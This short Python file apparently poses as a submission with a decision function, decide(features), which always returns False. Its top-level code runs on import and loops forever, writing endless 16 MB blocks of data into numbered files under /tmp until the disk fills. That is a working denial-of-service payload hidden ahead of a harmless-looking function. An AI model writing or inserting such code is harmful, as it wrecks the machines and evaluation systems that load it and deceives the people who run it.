number = 0
while True:
    number += 1
    with open(f"/tmp/{number}", "wb") as file:
        while True:
            file.write(b"x" * (1 << 24))


def decide(features):
    return False
